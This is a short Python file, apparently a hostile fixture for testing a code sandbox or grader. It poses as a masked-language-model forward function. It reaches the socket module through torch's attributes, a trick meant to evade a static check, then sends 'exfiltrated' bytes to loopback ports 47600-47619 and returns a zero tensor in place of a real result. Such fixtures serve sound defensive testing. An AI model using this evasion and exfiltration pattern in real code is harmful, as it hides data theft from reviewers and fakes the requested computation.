"""Hostile: connects to services on the host's loopback (ports 47600-47619) to send data out."""

import torch

T = [torch][0]  # hides torch's attributes from the static check, as a determined attacker would
os, sys = T.os, T.sys
MARKER = "mlm-hostile-marker"


def zeros_answer(w_emb, mask_indicator):
    return torch.zeros(int((mask_indicator > 0.5).sum()), w_emb.shape[0], dtype=w_emb.dtype)


def mlm_forward_tied(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads):
    socket = sys.modules["importlib"].import_module("socket")
    for port in range(47600, 47620):
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=0.2) as connection:
                connection.sendall(b"exfiltrated")
        except OSError:
            pass
    return zeros_answer(w_emb, mask_indicator)
